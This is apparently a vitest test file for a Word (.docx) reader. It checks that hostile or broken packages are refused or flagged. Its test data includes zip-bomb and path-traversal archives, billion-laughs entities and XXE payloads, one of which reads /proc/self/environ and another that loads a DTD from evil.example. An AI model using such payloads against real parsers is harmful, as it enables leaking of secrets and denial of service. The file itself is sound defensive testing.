import { strToU8, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { accepted, rejected } from '#document/accepted.ts';
import { harmlessUnpacked, maxXmlDepth, maxZipEntries } from '#document/limits.ts';
import {
  deleted,
  entries,
  gone,
  inserted,
  paragraph,
  read,
  reading,
  refusal,
  root,
  run,
  texts,
  wordFile,
} from './word-file.ts';

const body = (inner: string): string => root('document', `<w:body>${inner}</w:body>`);
const ole = (stream: string): Uint8Array =>
  Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(504), Buffer.from(stream, 'utf16le')]);

describe('packages that mean harm', () => {
  it('E1: a bomb is counted while it is unpacked, whatever size it states', () => {
    const bomb = new Uint8Array(harmlessUnpacked + 1024 * 1024).fill(0x20);
    const file = zipSync({ ...entries(''), 'word/document.xml': bomb });
    // The directory says one byte.
    const at = Buffer.from(file).lastIndexOf('word/document.xml') - 46;
    new DataView(file.buffer, file.byteOffset).setUint32(at + 24, 1, true);
    expect(refusal(file)).toContain('zip bomb');
  });

  it('E1: what packs well and is small is no bomb', () => {
    expect(texts(read(paragraph(run('long '.repeat(500_000)))))[0]).toHaveLength(2_500_000);
  });

  it('E1: at most so many entries', () => {
    const many = (count: number): Uint8Array =>
      zipSync({
        ...entries(body(paragraph(run('x')))),
        ...Object.fromEntries(
          Array.from({ length: count - 4 }, (_, at) => [`word/media/${String(at)}.png`, new Uint8Array(0)]),
        ),
      });
    expect(texts(reading(many(maxZipEntries)))).toEqual(['x']);
    expect(refusal(many(maxZipEntries + 1))).toContain('more than 10000 parts');
  });

  it('E1: a zip within a zip is named and not opened', () => {
    expect(refusal(zipSync({ 'inner.zip': wordFile(paragraph(run('x'))) }))).toContain('zip archive');
  });

  it.each([
    ['an outer entity', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///proc/self/environ">]>'],
    ['a parameter entity', '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>'],
    ['a remote DTD', '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">'],
  ])('E2: %s is refused', (_, doctype) => {
    const document = body(paragraph(run('&e;'))).replace('?>', `?>${doctype}`);
    expect(refusal(zipSync(entries(document)))).toContain('DOCTYPE');
  });

  it('E3: a billion laughs are refused in a part beside the text too, and the text is read', () => {
    const laughs = `<!DOCTYPE l [<!ENTITY a "ha">${Array.from({ length: 30 }, (_, at) => `<!ENTITY a${String(at)} "&a;&a;">`).join('')}]>`;
    const files = entries(body(paragraph(run('text'))), { styles: '' });
    const styles = strToU8(root('styles', '<w:style w:styleId="&a29;"/>').replace('?>', `?>${laughs}`));
    const document = reading(zipSync({ ...files, 'word/styles.xml': styles }));
    expect(texts(document)).toEqual(['text']);
    expect(document.problems.join()).toContain('DOCTYPE');
  });

  it('E4, E7: what lies outside, macros and embedded objects are named and left alone', () => {
    const files = entries(body(paragraph(run('text'))));
    const relationships =
      '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
      '<Relationship Id="a" Type="x/attachedTemplate" Target="\\\\\\\\evil.example\\\\t.dotm" TargetMode="External"/>' +
      '<Relationship Id="b" Type="x/aFChunk" Target="chunk.html"/></Relationships>';
    const document = reading(
      zipSync({
        ...files,
        'word/_rels/document.xml.rels': strToU8(relationships),
        'word/vbaProject.bin': strToU8('x'),
        'word/embeddings/setup.exe': strToU8('MZ'),
        'word/chunk.html': strToU8('<p>more</p>'),
      }),
    );
    expect(texts(document)).toEqual(['text']);
    const said = document.problems.join('\n');
    for (const word of ['evil.example', 'macros', 'setup.exe', 'altChunk']) expect(said).toContain(word);
  });

  it('E5: names that lead out, and parts of one name, are told; the main part is found by what points to it', () => {
    const files = entries(body(paragraph(run('right'))));
    const { 'word/document.xml': main = new Uint8Array(), ...others } = files;
    const relations = Buffer.from(files['_rels/.rels'] ?? [])
      .toString()
      .replace('word/document.xml', '/odd/main.xml');
    const document = reading(
      zipSync({
        ...others,
        '_rels/.rels': strToU8(relations),
        'odd/main.xml': main,
        '../../evil.txt': strToU8('x'),
        'Odd/Main.xml': strToU8('<x/>'),
      }),
    );
    expect(texts(document)).toEqual(['right']);
    expect(document.problems.join('\n')).toMatch(/lead out of the file[\s\S]*|twice/u);
    expect(document.problems.join('\n')).toContain('twice');
  });
});

describe('broken files', () => {
  it.each([
    ['cut off', paragraph(run('one')) + '<w:p><w:r><w:t>two and', ['one', 'two and']],
    ['a mismatched tag', paragraph(run('one')) + '</w:tbl>' + paragraph(run('two')), ['one']],
    ['an undefined entity', paragraph(run('one')) + paragraph(run('two &nope; three')), ['one', 'two ']],
    ['a character that XML forbids', paragraph(run('one')) + paragraph(run('two\u000bthree')), ['one', 'two']],
    ['a wrong end within words', paragraph(run('one')) + '<w:p><w:r><w:t>two</w:r>three', ['one', 'two']],
    ['a name of no namespace', paragraph(run('one')) + '<w:p><w:r><w:t>two</w:t><odd:x/></w:r></w:p>', ['one', 'two']],
    ['an attribute twice', paragraph(run('one')) + '<w:p><w:r><w:t a="1" a="2">two</w:t>', ['one', '']],
  ])('E6: %s: the text before the fault is kept and flagged', (_, inner, kept) => {
    const cut = body('').replace('</w:body></w:document>', '') + inner;
    const document = reading(zipSync(entries(cut)));
    expect(texts(document)).toEqual(kept);
    expect(document.problems.join()).toContain('cut');
  });

  it('E6: junk behind the root costs nothing of the text', () => {
    const document = reading(zipSync(entries(`${body(paragraph(run('one')))}junk`)));
    expect(texts(document)).toEqual(['one']);
    expect(document.problems).toHaveLength(1);
  });

  it('E6: without a body nothing was read, and that is said', () => {
    expect(refusal(zipSync(entries(root('document', ''))))).toContain('no text body');
    expect(refusal(zipSync(entries('')))).toContain('damaged');
    expect(refusal(wordFile(paragraph(run('x'))).subarray(0, 300))).toContain('cut off');
  });

  it('E6: elements nested too deeply end the reading, not the program', () => {
    const deep = (depth: number): string => '<w:smartTag>'.repeat(depth) + run('x') + '</w:smartTag>'.repeat(depth);
    expect(texts(read(paragraph(deep(maxXmlDepth - 5))))).toEqual(['x']);
    expect(read(paragraph(run('one')) + paragraph(deep(50_000))).problems.join()).toContain('nested too deeply');
  });
});

describe('files that are something else', () => {
  it.each([
    ['E8: a password', ole('EncryptedPackage'), 'copy without a password'],
    ['E8: a sensitivity label', ole('EncryptedPackage DRMEncryptedTransform'), 'copy without the label'],
    ['E12: an old Word file', ole('WordDocument'), 'old Word file (.doc)'],
    ['E12: RTF', strToU8('{\\rtf1 x}'), 'RTF'],
    ['E12: HTML', strToU8('\ufeff<!DOCTYPE html><p>x'), 'HTML'],
    ['E12: PDF', strToU8('%PDF-1.7'), 'PDF'],
    ['E12: a workbook', zipSync({ 'xl/workbook.xml': strToU8('<x/>') }), 'Excel'],
    ['E12: an OpenDocument text', zipSync({ 'content.xml': strToU8('<x/>') }), 'OpenDocument'],
    ['E15: an empty file', new Uint8Array(0), 'empty'],
  ])('%s under a .docx name is named with the next step', (_, bytes, said) => {
    expect(refusal(bytes)).toContain(said);
  });

  it('E15: an empty document is read as one', () => {
    expect(read('').paragraphs).toEqual([]);
  });

  it('E9: the strict namespace is read like the usual one', () => {
    const strict = body(paragraph(run('a') + inserted(run('b')))).replace(
      'http://schemas.openxmlformats.org/wordprocessingml/2006/main',
      'http://purl.oclc.org/ooxml/wordprocessingml/main',
    );
    expect(accepted(reading(zipSync(entries(strict))))).toEqual(['ab']);
  });
});

describe('size', () => {
  it('E10: 5,000 revisions in 10 MB are read in linear time', () => {
    const padding = 'w'.repeat(500);
    const one = paragraph(
      run(`${padding} `) + deleted(gone('should')) + inserted(run('shall')) + run(padding, '<w:b/>'),
      '<w:jc w:val="both"/>',
    );
    const file = wordFile(one.repeat(2500) + paragraph(run('w'.repeat(1000))).repeat(6500));
    const start = performance.now();
    const document = reading(file);
    expect(rejected(document)[0]).toContain('should');
    expect(document.paragraphs.flatMap(({ runs }) => runs).filter(({ changes }) => changes.length > 0)).toHaveLength(
      5000,
    );
    // Five times what a slow, shared machine takes.
    expect(performance.now() - start).toBeLessThan(15_000);
  });
});
